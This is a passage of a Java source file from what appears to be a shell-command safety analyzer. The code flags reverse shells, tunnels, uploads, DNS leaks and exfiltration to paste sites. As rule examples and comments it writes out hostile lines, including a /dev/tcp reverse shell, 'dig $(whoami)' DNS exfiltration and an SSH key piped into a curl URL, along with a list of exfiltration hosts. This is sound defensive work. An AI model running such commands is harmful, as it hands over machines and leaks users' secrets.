package dev.warden.analysis.net;

import static dev.warden.call.Severity.CRITICAL;
import static dev.warden.call.Severity.HIGH;
import static dev.warden.call.Severity.LOW;
import static dev.warden.call.Severity.MEDIUM;

import dev.warden.analysis.Hosts;
import dev.warden.analysis.Invocation;
import dev.warden.analysis.Pack;
import dev.warden.analysis.Report;
import dev.warden.analysis.Rule;
import dev.warden.call.Command;
import dev.warden.call.PathUse;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.jspecify.annotations.Nullable;

/**
 * The network: which hosts a command contacts (for the profile's allowed domains), and what
 * leaves the machine. Uploads and request bodies raise {@link Report.Signal#NETWORK_SEND}; with
 * a secret read in the same call that becomes the CRITICAL exfiltration finding.
 *
 * <p>Policy choices: downloads and API calls over HTTPS are not findings (the profile's domain
 * list governs them). An upload of an ordinary file with curl is LOW (logged); bulk copies to
 * other machines or buckets (scp, rsync, rclone, cloud copies) are MEDIUM; anything sent to a
 * paste site, request catcher or tunnel is HIGH. HTTP DELETE to a non-local host is HIGH, PUT
 * and PATCH MEDIUM: they change remote state.
 */
final class NetPack implements Pack {

    static final Rule REVERSE_SHELL = new Rule("net.reverse-shell", CRITICAL,
            "connects a shell to a network socket (a reverse or bind shell)", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
            "never attach a shell to a network connection");
    static final Rule RAW_SOCKET = new Rule("net.raw-socket", MEDIUM,
            "opens a raw network connection (nc, socat, telnet, /dev/tcp)", "nc example.com 1234",
            "use an HTTP client against the documented API");
    static final Rule LISTEN = new Rule("net.listen", MEDIUM,
            "serves files or a port to the network", "python3 -m http.server 8080",
            "bind to 127.0.0.1 and stop the server when done");
    static final Rule TUNNEL = new Rule("net.tunnel", HIGH,
            "exposes a local port to the internet through a tunnel or remote forward", "ngrok http 3000",
            "ask the user before exposing anything publicly");
    static final Rule UPLOAD = new Rule("net.upload", LOW,
            "sends a local file in a request body", "curl -T build.tar.gz https://example.com/upload", "");
    static final Rule COPY_OFF = new Rule("net.copy-off-machine", MEDIUM,
            "copies files to another machine or storage bucket", "scp dist.zip user@host:/srv/",
            "let the user's deploy pipeline move artifacts");
    static final Rule PASTE = new Rule("net.exfil-host", HIGH,
            "sends data to a paste site, request catcher or tunnel endpoint, a common exfiltration path",
            "curl -F 'f=@out.txt' ix.io", "do not publish data on third-party services");
    static final Rule SUSPICIOUS = new Rule("net.suspicious-host", MEDIUM,
            "contacts a raw IP address or an anonymous paste/tunnel service", "curl http://203.0.113.7/x",
            "use the service's documented host name");
    static final Rule HTTP_WRITE = new Rule("net.http-write", MEDIUM,
            "changes or deletes remote state over HTTP (PUT, PATCH, DELETE, or a POST to an action named like a "
                    + "deletion: /_delete_by_query, /projects/42/delete)", "curl -X DELETE https://es.example.com/my-index",
            "use the service's CLI with a dry run, or ask a human to approve the change");
    static final Rule INSECURE = new Rule("net.insecure-download", MEDIUM,
            "downloads over plain HTTP to a file, which anyone on the path can tamper with", "curl -o out.txt http://example.com",
            "download over https");
    static final Rule DNS_EXFIL = new Rule("net.dns-exfil", MEDIUM,
            "builds a DNS name from command output, which leaks data through lookups", "dig $(whoami).example.com",
            "look up fixed names only");

    static final List<Rule> RULES = List.of(REVERSE_SHELL, RAW_SOCKET, LISTEN, TUNNEL, UPLOAD, COPY_OFF, PASTE,
            SUSPICIOUS, HTTP_WRITE, INSECURE, DNS_EXFIL);

    private static final Set<String> PROGRAMS = Set.of("curl", "wget", "http", "https", "xh", "xhs", "httpie",
            "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "rsync", "rclone", "ftp", "tftp", "lftp",
            "dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "mtr", "whois", "openssl", "ngrok",
            "cloudflared", "lt", "localtunnel", "bore", "frpc", "ztcp", "zsocket", "python", "php", "ruby", "busybox",
            "aria2c", "axel", "lynx", "w3m", "links", "mosh", "autossh", "sshpass", "smbclient", "nmap", "masscan",
            "cryptcat", "pwncat", "gsutil", "azcopy", "s3cmd", "mc", "sendmail", "mail", "mutt", "swaks", "open",
            "xdg-open", "gh", "aws", "az", "gcloud", "tmate", "sshx", "upterm", "ttyd", "gotty", "wetty", "teleconsole",
            "code", "code-tunnel", "tailscale", "jupyter", "jupyter-lab", "jupyter-notebook", "git", "restic", "borg",
            "borgmatic", "kopia", "duplicity", "duplicati-cli", "rustic", "node", "nodejs", "java", "hg", "sl");

    private static final String[] EXFIL_HOSTS = {"pastebin.com", "paste.ee", "hastebin.com", "ix.io", "termbin.com",
            "0x0.st", "transfer.sh", "file.io", "webhook.site", "requestbin", "pipedream.net", "ngrok.io", "ngrok-free.app",
            "ngrok.app", "trycloudflare.com", "interact.sh", "oast.", "burpcollaborator.net", "dnslog.cn", "ceye.io",
            "canarytokens", "temp.sh", "bashupload.com", "catbox.moe", "anonfiles", "gofile.io", "discord.com/api/webhooks",
            "discordapp.com/api/webhooks", "api.telegram.org", "hookbin.com", "beeceptor.com", "postb.in", "ptpb.pw",
            "sprunge.us", "clbin.com", "dpaste", "ghostbin", "rentry.co", "paste.rs", "loca.lt", "serveo.net",
            "localhost.run", "pinggy", "oastify.com", "requestcatcher.com", "mockbin"};

    @Override
    public String name() {
        return "net";
    }

    @Override
    public List<Rule> rules() {
        return RULES;
    }

    @Override
    public Set<String> programs() {
        return PROGRAMS;
    }

    /** Transfer tools also delete (gsutil rm, rclone purge, mc rb): the long tail judges those verbs. */
    @Override
    public Set<String> judgesVerbsOf() {
        java.util.HashSet<String> s = new java.util.HashSet<>(PROGRAMS);
        s.removeAll(Set.of("gsutil", "rclone", "mc", "s3cmd", "azcopy", "lftp", "smbclient", "aws", "az", "gcloud",
                "restic", "borg", "borgmatic", "kopia", "duplicity", "duplicati-cli", "rustic", "tailscale", "code", "git",
                "jupyter", "tmate", "upterm", "node", "nodejs", "java", "hg", "sl"));
        return s;
    }

    @Override
    public void inspect(Invocation c, Report out) {
        switch (c.program()) {
            case "curl" -> http(c, Http.curl(c), out);
            case "wget", "aria2c", "axel" -> http(c, Http.wget(c), out);
            case "http", "https", "xh", "xhs", "httpie" -> http(c, Http.httpie(c), out);
            case "nc", "ncat", "netcat", "cryptcat", "pwncat" -> netcat(c, out);
            case "socat" -> socat(c, out);
            case "lftp", "smbclient", "ftp" -> {
                if (!Uploads.inspect(c, out)) {
                    rawSocket(c, out);
                }
            }
            case "telnet", "ztcp", "zsocket", "tftp" -> rawSocket(c, out);
            case "ssh", "mosh", "autossh" -> ssh(c, out);
            case "sshpass" -> { }
            case "sftp" -> {
                Transfers.inspect(c, out);
                Uploads.inspect(c, out);
            }
            case "scp", "rsync", "rclone", "gsutil", "azcopy", "s3cmd", "mc" -> {
                Transfers.inspect(c, out);
                if (c.program().equals("scp") || c.program().equals("rsync")) {
                    fetched(c, out);
                }
            }
            case "dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "mtr", "whois" -> dns(c, out);
            case "openssl" -> {
                String connect = c.option("-connect").orElse("");
                String h = Hosts.hostOf(connect.contains("://") ? connect : "x://" + connect);
                if (!connect.isEmpty() && h != null) {
                    out.host(h);
                }
            }
            case "ngrok", "cloudflared", "lt", "localtunnel", "bore", "frpc" -> {
                List<String> ops = c.operands();
                if (!ops.isEmpty() && !ops.get(0).equals("version") && !ops.get(0).equals("help") && !c.flag("--help", "-h", "--version")
                        && !(ops.get(0).equals("config") || ops.get(0).equals("update") || ops.get(0).equals("login"))) {
                    out.add(TUNNEL.finding(c.text()));
                }
            }
            case "python", "php", "ruby", "busybox" -> {
                server(c, out);
                debugger(c, out);
            }
            case "node", "nodejs", "java" -> debugger(c, out);
            case "tmate", "sshx", "upterm", "ttyd", "gotty", "wetty", "teleconsole", "code-tunnel" -> {
                // a terminal shared through a relay or served on a port: whoever has the link runs commands here
                List<String> ops = c.operands();
                String first = ops.isEmpty() ? "" : ops.get(0);
                if (!c.flag("--help", "-h", "--version", "-V") && !first.equals("version") && !first.equals("help")
                        && !(c.program().equals("upterm") && !first.equals("host"))) {
                    out.add(TUNNEL.finding("shares a terminal with whoever has the link or can reach the port ("
                            + c.program() + ")", c.text()));
                }
            }
            case "git", "hg", "sl" -> {
                repositorySent(c, out);
                List<String> ops = c.args().contains("daemon") ? c.operands(GIT_GLOBAL_VALUED) : List.of();
                if (!ops.isEmpty() && ops.get(0).equals("daemon")) {
                    boolean wide = c.args().contains("--export-all") || String.join(" ", c.args()).contains("receive-pack");
                    out.add(wide ? TUNNEL.finding("serves git repositories to the network without authentication "
                            + "(git daemon --export-all / receive-pack)", c.text())
                            : LISTEN.finding("serves git repositories to the network (git daemon)", c.text()));
                }
            }
            case "code" -> {
                List<String> ops = c.operands();
                if (!ops.isEmpty() && ops.get(0).equals("tunnel") && !(ops.size() > 1 && (ops.get(1).equals("status")
                        || ops.get(1).equals("kill") || ops.get(1).equals("user") && ops.size() > 2 && ops.get(2).equals("show")))) {
                    out.add(TUNNEL.finding("opens this machine to remote VS Code sessions (code tunnel)", c.text()));
                }
            }
            case "tailscale" -> {
                List<String> ops = c.operands();
                String first = ops.isEmpty() ? "" : ops.get(0);
                if (first.equals("funnel")) {
                    out.add(TUNNEL.finding("publishes a local port on the internet (tailscale funnel)", c.text()));
                } else if ((first.equals("up") || first.equals("set")) && c.flag("--ssh") && !c.args().contains("--ssh=false")) {
                    out.add(TUNNEL.finding("lets the tailnet log in to this machine over SSH (tailscale --ssh)", c.text()));
                } else if (first.equals("serve")) {
                    out.add(LISTEN.finding("serves a local port to the tailnet (tailscale serve)", c.text()));
                }
            }
            case "jupyter", "jupyter-lab", "jupyter-notebook" -> {
                String all = String.join(" ", c.args());
                boolean open = all.contains("--ip=0.0.0.0") || all.contains("--ip=*") || all.contains("--ip 0.0.0.0")
                        || all.contains("--ip=::");
                boolean noPassword = all.contains(".token= ") || all.endsWith(".token=") || all.contains(".token=''")
                        || all.contains(".token=\"\"") || all.contains("--no-auth") || all.contains("disable_check_xsrf");
                if (open && noPassword) {
                    out.add(TUNNEL.finding("serves notebooks, which run code, to the network without a token", c.text()));
                } else if (open) {
                    out.add(LISTEN.finding("serves notebooks, which run code, to the network", c.text()));
                }
            }
            case "nmap", "masscan" -> {
                for (String o : c.operands()) {
                    String h = Hosts.hostOf(o);
                    if (h != null) {
                        out.host(h);
                    }
                }
                out.add(RAW_SOCKET.finding(MEDIUM, "scans hosts or ports on the network", c.text()));
            }
            case "sendmail", "mail", "mutt", "swaks" -> {
                if (!c.operands().isEmpty() || c.flag("-t", "--to")) {
                    out.add(UPLOAD.finding(MEDIUM, "sends email", c.text()));
                    out.signal(Report.Signal.NETWORK_SEND);
                }
            }
            case "open", "xdg-open" -> {
                for (String o : c.operands()) {
                    if (o.contains("://")) {
                        String h = Hosts.hostOf(o);
                        if (h != null) {
                            out.host(h);
                        }
                    }
                }
            }
            case "aws", "az", "gcloud" -> {
                Transfers.cloudCopy(c, out);
                // aws ... --message-body file:///home/u/.aws/credentials: the CLI reads the file and sends it
                List<String> args = c.args();
                for (int i = 0; i < args.size(); i++) {
                    String a = args.get(i);
                    int at = a.startsWith("file://") ? 7 : a.startsWith("fileb://") ? 8 : a.startsWith("@") && !c.program()
                            .equals("aws") ? 1 : -1;
                    if (at > 0 && a.length() > at) {
                        c.path(a.substring(at)).ifPresent(p -> out.path(p.toString(), PathUse.Access.READ, c.text()));
                        // acm export-certificate --passphrase fileb://p: the key that encrypts what comes back
                        if (i == 0 || !args.get(i - 1).equals("--passphrase")) {
                            out.signal(Report.Signal.NETWORK_SEND);
                        }
                    }
                }
            }
            case "restic", "borg", "borgmatic", "kopia", "duplicity", "duplicati-cli", "rustic" -> backup(c, out);
            case "gh" -> {
                // gh talks to GitHub (or GH_HOST)
                out.host(c.env().getOrDefault("GH_HOST", "github.com"));
            }
            default -> { }
        }
    }

    private static @Nullable String firstHost(Invocation c) {
        for (String o : c.operands(Set.of("-p", "-l", "-b", "-e", "-c", "-d", "-i", "-w", "-q", "-s", "-x", "-P",
                "-a", "-o", "-O", "-u"))) {
            String h = Hosts.hostOf(o.contains("://") ? o : "x://" + o);
            if (h != null && !h.isEmpty() && !isNumber(h)) {
                return h;
            }
        }
        return null;
    }

    private static void rawSocket(Invocation c, Report out) {
        String h = firstHost(c);
        if (h != null && !Hosts.local(h)) {
            out.host(h);
            out.add(RAW_SOCKET.finding(c.text()));
            out.signal(Report.Signal.NETWORK_SEND);
        } else if (c.program().equals("ztcp") && c.flag("-l")) {
            out.add(LISTEN.finding(c.text()));
        }
    }

    private static boolean isNumber(String s) {
        for (int i = 0; i < s.length(); i++) {
            if (!Character.isDigit(s.charAt(i))) {
                return false;
            }
        }
        return true;
    }

    // ---- HTTP ------------------------------------------------------------------------------

    private static void http(Invocation c, Http h, Report out) {
        boolean remote = false;
        boolean plainHttp = false;
        String exfil = null;
        String rawIp = null;
        for (String u : h.urls()) {
            if (u.regionMatches(true, 0, "file://", 0, 7)) {
                // file:///root/.ssh/id_rsa: curl and wget read the local file
                String rest = u.substring(7);
                String file = rest.startsWith("/") ? rest : rest.startsWith("localhost/") ? rest.substring(9) : "";
                int q = file.indexOf('?');
                if (!file.isEmpty()) {
                    c.path(q < 0 ? file : file.substring(0, q)).ifPresent(p -> out.path(p.toString(), PathUse.Access.READ, c.text()));
                }
                continue;
            }
            if (Invocation.dynamic(u) && (u.contains("$(") || u.contains("`"))) {
                out.signal(Report.Signal.NETWORK_SEND); // command output inside the URL
            }
            String host = Hosts.hostOf(u.contains("://") ? u : "http://" + u);
            if (host == null) {
                continue;
            }
            out.host(host);
            if (Hosts.local(host)) {
                continue;
            }
            remote = true;
            String secret = dev.warden.analysis.secrets.SecretsRules.secretVariable(u);
            if (secret != null) {
                // the value travels in the URL (query, path or user info): logged by every proxy and server on the way
                out.signal(Report.Signal.NETWORK_SEND);
                out.signal(Report.Signal.SECRET_SOURCE);
            }
            String lower = u.toLowerCase(Locale.ROOT);
            if (lower.startsWith("http://") || lower.startsWith("ftp://") || !lower.contains("://")) {
                plainHttp = true;
            }
            String ex = exfilHost(lower);
            if (ex != null) {
                exfil = ex;
            }
            if (Hosts.ipv4(host) && !privateIp(host)) {
                rawIp = host;
            }
        }
        for (String f : h.uploads()) {
            c.path(f).ifPresent(p -> out.path(p.toString(), PathUse.Access.READ, c.text()));
        }

        for (Path saved : savedFiles(c, h)) {
            out.downloaded(saved.toString());
            if (!saved.toString().equals(Report.STDOUT)) {
                out.path(saved.toString(), PathUse.Access.WRITE, c.text()); // wget -P ~ URL/.bashrc writes ~/.bashrc
            }
        }
        if (!remote) {
            if (h.method().equals("DELETE")) {
                for (String u : h.urls()) {
                    String path = u.replaceFirst("^[a-zA-Z]+://[^/]*", "");
                    if (path.equals("/_all") || path.equals("/*") || path.startsWith("/_all?") || path.startsWith("/*?")
                            || path.equals("/_data_stream/*")) {
                        // Elasticsearch/OpenSearch: every index of the local cluster
                        out.add(HTTP_WRITE.finding(HIGH, "deletes every index of a search cluster (" + u + ")", c.text()));
                    }
                }
            }
            return;
        }
        boolean sends = h.body() || !h.uploads().isEmpty() || h.stdinBody() || dumpsIntoRequest(c.text());
        if (sends) {
            out.signal(Report.Signal.NETWORK_SEND);
        }
        if (exfil != null) {
            out.add(sends ? PASTE.finding("sends data to " + exfil + ", a paste site or request catcher", c.text())
                    : SUSPICIOUS.finding("contacts " + exfil + ", an anonymous paste or tunnel service", c.text()));
        } else if (rawIp != null) {
            out.add(SUSPICIOUS.finding("contacts the raw IP address " + rawIp, c.text()));
        }
        String override = overridden(c);
        switch (override != null ? override : h.method()) {
            case "DELETE" -> out.add(HTTP_WRITE.finding(HIGH, "sends an HTTP DELETE to a remote service"
                    + (override != null ? " (as a POST with a method override)" : ""), c.text()));
            case "GRAPHQL-DELETE" -> out.add(HTTP_WRITE.finding(HIGH, "sends a GraphQL mutation that deletes something "
                    + "to a remote service", c.text()));
            case "PUT", "PATCH" -> out.add(HTTP_WRITE.finding(c.text()));
            case "GET", "HEAD", "OPTIONS" -> { }
            default -> {
                // POST to an action named like a deletion: /_delete_by_query, /projects/42/delete
                for (String u : h.urls()) {
                    String verb = destructiveAction(u);
                    String lu = u.toLowerCase(Locale.ROOT);
                    if (verb == null && lu.contains("/admin/") && (lu.contains("/password") || lu.contains("/permissions"))) {
                        verb = "set an account's password or permissions as an administrator"; // Grafana /api/admin/users/1/password
                    }
                    if (verb == null) {
                        verb = actionByPath(lu);
                    }
                    querySql(u, c.text(), out); // POST /query?q=DROP+DATABASE+metrics (InfluxDB), ?sql=...
                    if (verb != null && !Hosts.local(String.valueOf(Hosts.hostOf(u.contains("://") ? u : "http://" + u)))) {
                        out.add(HTTP_WRITE.finding("asks a remote API to " + verb + " (" + h.method() + " " + u + ")",
                                c.text()));
                        break;
                    }
                }
            }
        }
        String packed = exfil == null ? archivedEarlier(c, h.uploads()) : null;
        if (packed != null) {
            // git bundle create /tmp/all.bundle --all && curl -T /tmp/all.bundle URL: the history, as rsync sends it
            out.add(COPY_OFF.finding("uploads " + packed, c.text()));
        } else if (!h.uploads().isEmpty() && exfil == null) {
            out.add(UPLOAD.finding(c.text()));
        }
        String archive = h.stdinBody() && exfil == null ? archiveFedIn(c) : null;
        if (archive != null) {
            // tar cz . | curl -T - URL, git archive HEAD | curl --data-binary @- URL: the whole tree, as rsync sends it
            out.add(COPY_OFF.finding("uploads " + archive + " piped in", c.text()));
        }
        if (plainHttp && h.toFile() && !sends) {
            out.add(INSECURE.finding(c.text()));
        }
    }

    /** Programs whose output is data (a file, the environment, an encoding of either), not a token made for a login. */
    private static final Set<String> DUMPERS = Set.of("env", "printenv", "set", "export", "cat", "base64", "xxd", "od", "tar",
            "gzip", "head", "tail", "sed", "awk", "grep", "history", "ps", "ls", "find", "tr", "cut", "hexdump", "zip", "openssl");

    /**
     * {@code curl -H "X: $(env | base64 -w0)" URL}, {@code curl "URL?d=$(cat ~/.ssh/id_rsa | base64)"}: data
     * computed by a substitution rides in a header or the URL (a token command such as {@code $(gh auth token)}
     * in an Authorization header is a login, not this).
     */
    private static boolean dumpsIntoRequest(String text) {
        for (int at = text.indexOf("$("); at >= 0 && at < 20_000; at = text.indexOf("$(", at + 2)) {
            String inner = text.substring(at + 2).stripLeading();
            int end = 0;
            while (end < inner.length() && (Character.isLetterOrDigit(inner.charAt(end)) || inner.charAt(end) == '-'
                    || inner.charAt(end) == '_')) {
                end++;
            }
            if (DUMPERS.contains(inner.substring(0, end))) {
                return true;
            }
        }
        int bt = text.indexOf('`');
        return bt >= 0 && DUMPERS.contains(text.substring(bt + 1).split("[\\s`|]", 2)[0]);
    }

    /**
     * What the pipeline feeding an upload archives: {@code tar c DIR}, {@code zip -r - DIR},
     * {@code git archive}, {@code git bundle create -}. Null when the input is something else.
     */
    private static @Nullable String archiveFedIn(Invocation c) {
        List<Command> from = c.pipedFrom();
        if (from.isEmpty()) {
            return null;
        }
        Command first = from.get(from.size() - 1);
        List<String> a = first.args();
        return switch (first.program()) {
            case "tar", "gtar", "bsdtar" -> tarCreates(a)
                    ? "an archive of " + String.join(" ", a.subList(Math.min(1, a.size()), a.size())) : null;
            case "zip" -> a.contains("-") && (a.contains("-r") || a.stream().anyMatch(x -> x.startsWith("-r"))) ? "a zip of the tree" : null;
            case "git" -> a.contains("archive") ? "an archive of the repository"
                    : a.contains("bundle") && a.contains("create") ? "a bundle of the repository's history"
                    : a.contains("format-patch") ? "the repository's commits as patches"
                    : a.contains("log") && (a.contains("-p") || a.contains("--patch")) ? "the repository's history with its changes"
                    : null;
            case "docker", "podman", "nerdctl" -> a.contains("save") || a.contains("export") ? "a container image or file system"
                    : null;
            case "pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump", "mongodump", "sqlite3" ->
                    first.program().equals("sqlite3") && !a.contains(".dump") ? null : "a dump of a database";
            default -> null;
        };
    }

    /** {@code tar c...}, {@code tar -czf}, {@code tar --create}: the call makes an archive. */
    private static boolean tarCreates(List<String> a) {
        return !a.isEmpty() && (a.get(0).indexOf('c') >= 0 && !a.get(0).startsWith("--") || a.contains("--create"));
    }

    /**
     * A file this upload sends that an earlier command of the call made as an archive of the tree,
     * a bundle of the history, an image or a database dump ({@code git bundle create f --all},
     * {@code tar czf f .}, {@code docker save -o f}, {@code pg_dump -f f}, {@code pg_dump > f}): what
     * it holds, or null.
     */
    private static @Nullable String archivedEarlier(Invocation c, List<String> uploads) {
        if (uploads.isEmpty()) {
            return null;
        }
        for (Command e : c.earlier()) {
            List<String> a = e.args();
            String made = null;
            String what = null;
            switch (e.program()) {
                case "git" -> {
                    int b = a.indexOf("bundle");
                    int ar = a.indexOf("archive");
                    if (b >= 0 && b + 2 < a.size() && a.get(b + 1).equals("create")) {
                        made = a.get(b + 2);
                        what = "a bundle of the repository's history";
                    } else if (ar >= 0) {
                        int o = a.indexOf("-o");
                        made = o >= 0 && o + 1 < a.size() ? a.get(o + 1) : a.stream().filter(x -> x.startsWith("--output="))
                                .map(x -> x.substring(9)).findFirst().orElse(null);
                        what = "an archive of the repository";
                    }
                }
                case "tar", "gtar", "bsdtar", "zip", "7z", "7za" -> {
                    boolean create = e.program().contains("tar") ? tarCreates(a) : e.program().equals("zip") || a.contains("a");
                    if (create && e.program().contains("tar") && !a.get(0).startsWith("-") && a.get(0).indexOf('f') >= 0
                            && a.size() > 1) {
                        made = a.get(1); // tar czf out.tgz . (the old style: f's value is the next word)
                        what = "an archive of " + (a.contains(".") || a.contains("./") ? "the project" : "files");
                    } else if (create) {
                        for (int i = 0; i < a.size(); i++) {
                            String x = a.get(i);
                            if (x.startsWith("-") && x.indexOf('f') > 0 && !x.startsWith("--") && i + 1 < a.size()) {
                                made = a.get(i + 1); // tar -czf out.tgz .
                                break;
                            }
                            if (!x.startsWith("-") && (e.program().equals("zip") || !e.program().contains("tar") && i > 0)) {
                                made = x; // zip -r out.zip ., 7z a out.7z .
                                break;
                            }
                        }
                        what = "an archive of " + (a.contains(".") || a.contains("./") ? "the project" : "files");
                    }
                }
                case "docker", "podman", "nerdctl" -> {
                    int o = a.indexOf("-o");
                    if ((a.contains("save") || a.contains("export")) && o >= 0 && o + 1 < a.size()) {
                        made = a.get(o + 1);
                        what = "a container image or file system";
                    }
                }
                case "pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump" -> {
                    int o = a.indexOf("-f");
                    made = o >= 0 && o + 1 < a.size() ? a.get(o + 1) : null;
                    for (Command.Redirect r : e.redirects()) {
                        if (r.op().equals(">") || r.op().equals("1>")) {
                            made = r.target();
                        }
                    }
                    what = "a dump of a database";
                }
                default -> { }
            }
            if (made != null) {
                String name = made.startsWith("./") ? made.substring(2) : made;
                for (String u : uploads) {
                    String up = u.startsWith("./") ? u.substring(2) : u;
                    if (up.equals(name)) {
                        return what;
                    }
                }
            }
        }
        return null;
    }

    /**
     * The method a request really asks for when its body or headers say so: an
     * {@code X-HTTP-Method-Override: DELETE} header, a {@code _method=DELETE} form field (Rails,
     * Laravel), or a GraphQL mutation whose name deletes ({@code deleteRepository}) —
     * {@code "GRAPHQL-DELETE"}. Null when nothing overrides the method.
     */
    private static @Nullable String overridden(Invocation c) {
        for (String a : c.args()) {
            String l = a.toLowerCase(Locale.ROOT);
            if (l.length() > 20_000) {
                continue;
            }
            if (l.contains("method-override") && l.contains("delete") || l.contains("_method=delete")
                    || l.contains("\"_method\":\"delete\"")) {
                return "DELETE";
            }
            int m = l.indexOf("mutation");
            if (m >= 0 && (l.contains("query") || l.startsWith("mutation") || l.startsWith("{"))) {
                String rest = l.substring(m);
                for (String verb : new String[] {"delete", "destroy", "remove", "purge", "archive", "transfer"}) {
                    if (rest.contains(verb)) {
                        return "GRAPHQL-DELETE";
                    }
                }
            }
        }
        return null;
    }

    /**
     * The files a download saves: the output file, the URL's last path segment for
     * {@code curl -O} and {@code wget} (under {@code wget -P DIR}), or a redirect's target
     * ({@code curl URL > i.sh}).
     */
    private static List<Path> savedFiles(Invocation c, Http h) {
        List<Path> out = new java.util.ArrayList<>(1);
        if (c.program().equals("aria2c")) {
            // aria2c -o NAME -d DIR URL (its -o is the output name, not wget's log file)
            String dir = c.option("-d", "--dir").map(d -> d.endsWith("/") ? d : d + "/").orElse("");
            java.util.Optional<String> name = c.option("-o", "--out");
            if (name.isPresent()) {
                c.path(dir + name.get()).ifPresent(out::add);
            } else {
                for (String u : h.urls()) {
                    String last = lastSegment(u);
                    if (last != null) {
                        c.path(dir + last).ifPresent(out::add);
                    }
                }
            }
            return out;
        }
        if (h.toFile() && h.output().contains("#1")) {
            // curl -o '#1' 'https://x/{.bashrc,.profile}': #1 is each alternative of the URL's first {} group
            for (String u : h.urls()) {
                int open = u.indexOf('{');
                int close = open < 0 ? -1 : u.indexOf('}', open);
                if (close > open) {
                    String[] alternatives = u.substring(open + 1, close).split(",", 16);
                    for (String alt : alternatives) {
                        c.path(h.output().replace("#1", alt)).ifPresent(out::add);
                    }
                }
            }
            if (!out.isEmpty()) {
                return out;
            }
        }
        if (h.toFile() && !h.output().isEmpty() && !h.output().endsWith("/")) {
            c.path(h.output()).ifPresent(out::add);
        } else if (h.toFile()) {
            String dir = h.output().endsWith("/") ? h.output() : c.program().equals("wget")
                    ? c.option("-P", "--directory-prefix").map(d -> d.endsWith("/") ? d : d + "/").orElse("") : "";
            for (String u : h.urls()) {
                String name = lastSegment(u);
                if (name != null) {
                    c.path(dir + name).ifPresent(out::add);
                }
            }
        }
        boolean redirected = false;
        for (Command.Redirect r : c.command().redirects()) {
            if (r.op().equals(">") || r.op().equals(">>") || r.op().equals(">|") || r.op().equals("&>")) {
                c.path(r.target()).ifPresent(out::add);
                redirected = true;
            }
        }
        if (!h.toFile() && !redirected && !h.output().equals("/dev/null") && !h.urls().isEmpty()) {
            out.add(Path.of(Report.STDOUT)); // curl URL | tar -xz: what the next command reads
        }
        return out;
    }

    private static final Set<String> GIT_GLOBAL_VALUED = Set.of("-C", "-c", "--git-dir", "--work-tree", "--namespace");

    private static final Set<String> COPY_VALUED = Set.of("-P", "-i", "-o", "-F", "-c", "-l", "-S", "-J", "-e",
            "--rsh", "--exclude", "--include", "--filter", "-f", "--port", "--password-file", "--chmod", "--log-file",
            "--partial-dir", "--temp-dir", "--backup-dir", "--suffix", "--files-from", "--exclude-from",
            "--include-from", "-T", "-B", "-M", "--timeout", "--bwlimit");

    /**
     * {@code scp host:x.sh .}, {@code rsync host::m/x.sh ./}: files copied from another machine
     * are downloads, so running one later in the call is running downloaded code.
     */
    private static void fetched(Invocation c, Report out) {
        List<String> ops = c.operands(COPY_VALUED);
        if (ops.size() < 2) {
            return;
        }
        String dest = ops.get(ops.size() - 1);
        if (remotePath(dest)) {
            return;
        }
        for (String src : ops.subList(0, ops.size() - 1)) {
            if (!remotePath(src)) {
                continue;
            }
            // rsync host:dir/ copies dir's contents; scp host:dir/ (with -r) copies dir itself
            String trimmed = src.endsWith("/") && c.program().equals("scp") ? src.substring(0, src.length() - 1) : src;
            String base = trimmed.endsWith("/") ? null
                    : trimmed.substring(Math.max(trimmed.lastIndexOf('/'), trimmed.lastIndexOf(':')) + 1);
            boolean intoDir = dest.endsWith("/") || dest.equals(".") || dest.equals("..") || dest.equals("~")
                    || ops.size() > 2;
            List<String> landed = new java.util.ArrayList<>(2);
            if (intoDir && base != null && !base.isEmpty()) {
                landed.add((dest.endsWith("/") ? dest : dest + "/") + base);
            } else if (!intoDir) {
                landed.add(dest);
                if (base != null && !base.isEmpty()) {
                    landed.add(dest + "/" + base);
                }
            }
            for (String l : landed) {
                c.path(l).ifPresent(p -> {
                    out.downloaded(p.toString());
                    out.downloaded(p + "/"); // when it is a directory: what it holds came along
                });
            }
        }
    }

    /**
     * Backup tools copying files to a repository: {@code restic -r s3:... backup ~}, {@code borg
     * create ssh://host/repo::name ~}. A repository on another machine makes it a copy off the
     * machine; the home directory (keys, credentials) as a source makes it a serious one.
     */
    private static void backup(Invocation c, Report out) {
        List<String> ops = c.operands(Set.of("-r", "--repo", "--repository-file", "-p", "--password-file",
                "--password-command", "--exclude", "-e", "--exclude-file", "--iexclude", "--tag", "--host", "-H",
                "--files-from", "--cache-dir", "--compression", "-C", "--comment", "--exclude-from"));
        String repo = c.option("-r", "--repo").orElse(c.env().getOrDefault("RESTIC_REPOSITORY",
                c.env().getOrDefault("BORG_REPO", "")));
        String sub = ops.isEmpty() ? "" : ops.get(0);
        if (!Set.of("backup", "create", "snapshot", "full", "incremental", "incr").contains(sub)) {
            return;
        }
        List<String> sources = new java.util.ArrayList<>(ops.subList(1, ops.size()));
        if (c.program().equals("borg") && !sources.isEmpty()) {
            repo = sources.remove(0); // borg create REPO::ARCHIVE PATH...
        } else if (c.program().equals("duplicity") && sources.size() >= 2) {
            repo = sources.remove(sources.size() - 1); // duplicity SOURCE TARGET_URL
        }
        boolean remoteRepo = repo.contains("://") || repo.startsWith("s3:") || repo.startsWith("b2:") || repo.startsWith("gs:")
                || repo.startsWith("azure:") || repo.startsWith("sftp:") || repo.startsWith("rest:")
                || repo.startsWith("rclone:") || repo.startsWith("swift:") || remotePath(repo);
        if (!remoteRepo && c.program().equals("kopia") && sub.equals("snapshot")) {
            // kopia's repository is connected once (kopia repository connect s3 ...): a snapshot of home goes there
            for (String src : sources.subList(Math.min(1, sources.size()), sources.size())) {
                if (c.path(src).map(p -> c.context().home().startsWith(p)).orElse(false)) {
                    out.add(COPY_OFF.finding("backs the home directory (keys and credentials included) up to the "
                            + "connected repository", c.text()));
                    return;
                }
            }
        }
        if (!remoteRepo) {
            return;
        }
        boolean home = false;
        for (String src : sources) {
            java.util.Optional<Path> p = c.path(src);
            if (p.isPresent()) {
                out.path(p.get().toString(), PathUse.Access.READ, c.text());
                home |= c.context().home().startsWith(p.get());
            }
        }
